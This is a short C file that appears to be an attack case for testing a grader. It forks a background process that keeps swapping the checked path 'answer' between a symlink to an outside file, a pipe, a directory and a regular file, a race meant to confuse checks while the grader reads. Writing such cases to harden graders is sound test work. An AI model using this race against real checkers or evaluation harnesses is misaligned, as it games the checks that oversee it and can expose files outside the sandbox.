// SPDX-License-Identifier: MIT
// Leaves a process that changes what lies where a check reads, all the time while the grader looks.
#include "attack.h"

static void attack(void) {
  if (fork() == 0) {
    symlink(outside_file, "link");
    mkfifo("pipe", 0666);
    mkdir("folder", 0755);
    while (1) {
      rename("link", "answer");
      rename("answer", "link");
      rename("pipe", "answer");
      rename("answer", "pipe");
      rename("folder", "answer");
      rename("answer", "folder");
      close(open("answer", O_WRONLY | O_CREAT, 0644));
      unlink("answer");
    }
  }
}
